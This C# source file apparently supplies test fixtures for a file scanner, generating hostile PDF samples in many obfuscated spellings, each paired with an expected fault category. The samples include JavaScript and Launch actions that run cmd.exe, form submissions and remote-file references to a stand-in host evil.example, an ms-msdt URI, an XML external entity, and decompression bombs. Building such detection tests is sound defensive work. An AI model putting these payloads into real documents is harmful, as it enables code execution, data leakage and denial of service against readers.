using System.Text;
using SupervisionBot.Core.FileChecks;
using static Documents.Files.HostileFiles;

namespace Documents.Files;

/// <summary>PDFs that do something when they are opened, in the spellings that readers follow.</summary>
static class HostilePdfs
{
    static readonly (string Action, FileFault Fault)[] Actions =
    [
        ("<</S /JavaScript /JS (app.alert(1))>>", FileFault.JavaScript),
        ("<</JS (app.alert(1)) /S /JavaScript>>", FileFault.JavaScript),
        ("<</S /JavaScript /JS <6170702e616c657274>>>", FileFault.JavaScript),
        ("<</S/#4Aava#53cript/J#53 (x)>>", FileFault.JavaScript),
        ("<</#53 /JavaScrip#74 /JS 31 0 R>>", FileFault.JavaScript),
        ("<</S /JavaScript/JS\0(x)>>", FileFault.JavaScript),
        ("<</S\f/JavaScript%comment\r/JS%other\n(x)>>", FileFault.JavaScript),
        ("<</S /URI /S /JavaScript /JS (x) /S /GoTo>>", FileFault.JavaScript),
        ("<</S 30 0 R /JS 31 0 R>>", FileFault.JavaScript),
        ("<</S /Rendition /JS (x)>>", FileFault.JavaScript),
        ("<</S /Named /N /NextPage /Next [<</S /JavaScript /JS (x)>>]>>", FileFault.JavaScript),
        ("<</JS (x)>>", FileFault.JavaScript),
        ("<< 7 true /S /JavaScript /JS (a\\)b) >>", FileFault.JavaScript),
        ("<</S /JavaScript /JS (never closed", FileFault.JavaScript),
        ("<</S/Launch /F (cmd.exe)>>", FileFault.Launch),
        ("<</S/Launch /Win <</F (cmd.exe) /P (/c calc)>> >>", FileFault.Launch),
        ("<</S/L#61unch /F <</Type /Filespec /F (a.docm)>> >>", FileFault.Launch),
        ("<</S/GoToE /T <</R /C /N (a)>> /D [0]>>", FileFault.OtherFile),
        ("<</S/GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) /D [0]>>", FileFault.OtherFile),
        ("<</S/GoToR /F (//evil.example/share/a.pdf) /D [0]>>", FileFault.OtherFile),
        ("<</S/GoToR /F (http://evil.example/a.pdf) /D [0]>>", FileFault.OtherFile),
        ("<</S/GoToR /F <</FS /URL /UF <FEFF0068007400740070003A002F002F0065>>> /D [0]>>", FileFault.OtherFile),
        ("<</S/ImportData /F (\\\\\\\\evil.example\\\\a.fdf)>>", FileFault.OtherFile),
        ("<</Length 0 /F (file://evil.example/x) /FFilter /FlateDecode>>", FileFault.OtherFile),
        ("<</S/SubmitForm /F <</FS /URL /F (https://evil.example/take)>> >>", FileFault.SubmitForm),
        ("<</S/SubmitForm /F (mailto:evil@example.org)>>", FileFault.SubmitForm),
        ("<</S/URI /URI (file:///C:/Windows/System32/calc.exe)>>", FileFault.OddAddress),
        ("<</S/URI /URI ( F\\151le:///etc/passwd)>>", FileFault.OddAddress),
        ("<</S/URI /URI <66696C653A2F2F2F78>>>", FileFault.OddAddress),
        ("<</S/URI /URI (java\\nscript:alert\\(1\\))>>", FileFault.OddAddress),
        ("<</S/URI /URI (\\\\\\\\evil.example\\\\share)>>", FileFault.OddAddress),
        ("<</S/URI /URI (ms-msdt:/id PCWDiagnostic)>>", FileFault.OddAddress),
        ("<</S/URI /URI 32 0 R>>", FileFault.OddAddress),
        ("<</URI <</Base (file:///C:/)>> >>", FileFault.OddAddress),
        ("<</Type /Filespec /F (a.exe) /EF <</F 33 0 R>> >>", FileFault.Attachment),
        ("<</Type /F#69lespec /UF (a.exe) /E#46 <</UF 33 0 R>> >>", FileFault.Attachment),
        ("<</F (a.xml) /AFRelationship /Supplement /EF 34 0 R>>", FileFault.Attachment),
        ("<</Type /Annot /Subtype /RichMedia /RichMediaContent <<>> >>", FileFault.RichMedia),
        ("<</Type /Annot /Subtype /Movie /Movie <</F (a.avi)>> >>", FileFault.RichMedia),
        ("<</Type /Annot /Subtype /3D /3DD 33 0 R>>", FileFault.RichMedia),
        ("<</Type /Annot /Subtype /Screen /A <</S /Rendition /R <<>> >> >>", FileFault.RichMedia),
    ];

    const string Others =
        "30 0 obj\n/JavaScript\nendobj\n31 0 obj\n(x)\nendobj\n32 0 obj\n(file:///x)\nendobj\n"
        + "33 0 obj\n<</Type /EmbeddedFile /Length 2>>\nstream\nMZ\nendstream\nendobj\n34 0 obj\n<</F 33 0 R>>\nendobj\n";

    public static IEnumerable<(byte[] Bytes, FileFault Fault)> All()
    {
        foreach (var (action, fault) in Actions)
        {
            // In the open, in a list, with the line ends of old Macintoshes, in an older revision, packed.
            yield return (Pdf($"9 0 obj\n{action}\nendobj\n{Others}"), fault);
            yield return (Pdf($"{Others}9 0 obj[null {action}]endobj\n"), fault);
            if (!action.Contains('%'))
                yield return (Pdf($"9 0 obj\r{action}\rendobj\r{Others.Replace('\n', '\r')}"), fault);
            yield return (Pdf($"9 0 obj\n{action}\nendobj\n{Others}trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n9 0 obj\nnull\nendobj\n"), fault);
            yield return (Pdf($"9%one\n0 %two\nobj\n{action}\nendobj\n{Others}"), fault);
            foreach (var packed in Packed($"9 0 {action}"))
                yield return (Pdf($"{packed}{Others}"), fault);
        }
        foreach (
            var script in (string[])
                [
                    "<script>x</script>",
                    "<x:script xmlns:x='x' contentType='application/x-javascript'>x</x:script>",
                    "<event><script><![CDATA[x]]></script></event>",
                ]
        )
        {
            var form = Latin1(PdfStream(41, "", $"<xdp>{script}</xdp>"));
            yield return (Pdf($"40 0 obj\n<</XFA 41 0 R>>\nendobj\n{form}"), FileFault.FormScript);
            yield return (Pdf($"40 0 obj\n<</XFA [(template) 41 0 R]>>\nendobj\n{form}"), FileFault.FormScript);
        }
        yield return (
            Pdf($"40 0 obj\n<</XFA 41 0 R>>\nendobj\n{Latin1(PdfStream(41, "", "<xdp><submit target='https://evil.example'/></xdp>"))}"),
            FileFault.SubmitForm
        );
        foreach (
            var (objects, fault) in (IReadOnlyList<(string, FileFault)>)
                [
                    ("<</Type /Catalog /OpenAction <</S /URI /URI (https://evil.example)>> >>", FileFault.OpensByItself),
                    ("<</Type /Catalog /OpenAction 50 0 R>>", FileFault.OpensByItself),
                    ("<</OpenAction <</S /GoTo /D [0] /Next [<</S /URI /URI (https://evil.example)>>]>> >>", FileFault.OpensByItself),
                    ("<</Type /Catalog /AA <</WC <</S /URI /URI (https://evil.example)>> >> >>", FileFault.OpensByItself),
                    ("<</Type /Page /AA 51 0 R>>", FileFault.OpensByItself),
                    ("<</S /URI /URI (vnd.sun.star.expand:https://evil.example/?v=${HOME})>>", FileFault.OddAddress),
                    ("<</Subtype /Image /Width -99999999999999999999 /Height 1>>", FileFault.Damaged),
                    ("<</Type /Font /FontMatrix [1 2 3 4 5 (1\\); alert\\(1)]>>", FileFault.Damaged),
                    ("<</Subtype /Text /T (<img src=x onerror=alert\\(1\\)>)>>", FileFault.JavaScript),
                    ("<</Subtype /Image /F (\\\\evil.example\\a.jpg) /Length 0>>\nstream\n\nendstream", FileFault.OtherFile),
                    ("<</F <</Type /Filespec /F (a.bin)>> /Length 0>>\nstream\n\nendstream", FileFault.OtherFile),
                    ("<</FunctionType 4 /Length 9>>\nstream\n{ f(\"x\") }\nendstream", FileFault.JavaScript),
                    (
                        "<</Type /Metadata /Length 9>>\nstream\n<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example'>]>\nendstream",
                        FileFault.Declarations
                    ),
                ]
        )
            yield return (
                Pdf($"9 0 obj\n{objects}\nendobj\n50 0 obj\n<</S /URI /URI (https://evil.example)>>\nendobj\n" + "51 0 obj\n<</O 50 0 R>>\nendobj\n"),
                fault
            );
        // What leads to itself, many times.
        yield return (
            Pdf($"5 0 obj\n<</S /GoTo /Next [{string.Concat(Enumerable.Repeat("5 0 R ", 40))}]>>\nendobj\n9 0 obj\n<</OpenAction 5 0 R>>\nendobj\n"),
            FileFault.UnpacksTooFar
        );
        yield return (
            Pdf(
                $"5 0 obj\n<<{string.Concat(Enumerable.Range(0, 200).Select(key => $"/K{key} 5 0 R"))}>>\nendobj\n",
                trailer: "<</Root 1 0 R /Encrypt 5 0 R>>"
            ),
            FileFault.Encrypted
        );
        // What cannot be read to its end, or has none.
        yield return (
            Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 4>>\nstream\nabcd\nendstream\nendobj\n"),
            FileFault.Damaged
        );
        yield return (
            Pdf("9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /Brotli /Length 4>>\nstream\nabcd\nendstream\nendobj\n"),
            FileFault.Damaged
        );
        yield return (Pdf($"9 0 obj\n{new string('[', 5000)}"), FileFault.Damaged);
        yield return (Pdf($"9 0 obj\n{string.Concat(Enumerable.Repeat("<</A", 5000))}"), FileFault.Damaged);
        yield return (PdfWithObjects(new string(' ', 30_000_000)), FileFault.UnpacksTooFar);
        yield return (Pdf(string.Concat(Enumerable.Repeat("9 0 obj (", 60_000))), FileFault.UnpacksTooFar);
        yield return (
            Pdf(
                Latin1([
                    .. "9 0 obj\n<</Filter [/FlateDecode /FlateDecode] /Length 500000>>\nstream\n"u8,
                    .. Deflated(Deflated(new byte[300_000_000])),
                    .. "\nendstream\nendobj\n"u8,
                ])
            ),
            FileFault.UnpacksTooFar
        );
    }

    /// <summary>A stream of objects behind every filter there is, and several.</summary>
    static IEnumerable<string> Packed(string objects)
    {
        const string Head = "9 0 obj\n<</Type /ObjStm /N 1 /First 4";
        var bytes = Encoding.Latin1.GetBytes(objects);
        var flat = Latin1(Deflated(bytes));
        yield return $"{Head} /Filter /FlateDecode /Length {flat.Length}>>\nstream\n{flat}\nendstream\nendobj\n";
        yield return $"{Head} /Filter [/Fl] /Length 1>>\r\nstream\r\n{flat[..^4]}wron\r\nendstream\r\nendobj\n";
        yield return $"{Head} /Filter /A#48x /Length 9>>\nstream\n{Convert.ToHexString(bytes)}>\nendstream\nendobj\n";
        yield return $"{Head} /Filter [/ASCIIHexDecode /FlateDecode] /Length "
            + $"9>>\nstream\n{Convert.ToHexString(Encoding.Latin1.GetBytes(flat))}>\nendstream\nendobj\n";
        yield return $"{Head} /Length {bytes.Length}>>\nstream\n{objects}\nendstream\nendobj\n";
        var rows = Latin1(Deflated([.. bytes.Chunk(8).SelectMany(row => (byte[])[0, .. row, .. new byte[8 - row.Length]])]));
        yield return $"{Head} /Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 8>> /Length "
            + $"{rows.Length}>>\nstream\n{rows}\nendstream\nendobj\n";
        var runs = Latin1([.. bytes.Chunk(100).SelectMany(run => (byte[])[(byte)(run.Length - 1), .. run]), 128]);
        yield return $"{Head} /Filter /RL /Length {runs.Length}>>\nstream\n{runs}\nendstream\nendobj\n";
    }

    static string Latin1(byte[] bytes) => Encoding.Latin1.GetString(bytes);
}
